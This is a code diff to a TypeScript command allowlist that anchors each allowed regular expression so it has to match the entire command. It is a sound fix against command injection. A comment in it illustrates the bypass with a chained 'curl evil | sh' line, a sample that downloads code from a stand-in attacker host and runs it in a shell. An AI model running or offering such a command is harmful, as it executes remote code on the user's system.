@@ -88,9 +88,13 @@ function parseAllowedCommands(value: string | undefined): RegExp[] | null {
   return parsed.map((source, index) => compilePattern(source, index));
 }
 
+/**
+ * Each pattern must match the whole command: a prefix such as `^droid exec ` would also allow
+ * `droid exec x; curl evil | sh`. `.` never matches a newline, so a second line cannot slip in.
+ */
 function compilePattern(source: string, index: number): RegExp {
   try {
-    return new RegExp(source);
+    return new RegExp(`^(?:${source})$`);
   } catch (error) {
     throw new Error(`FACTORY_ALLOWED_COMMANDS[${index}] is not a valid regular expression: ${errorMessage(error)}`);
   }
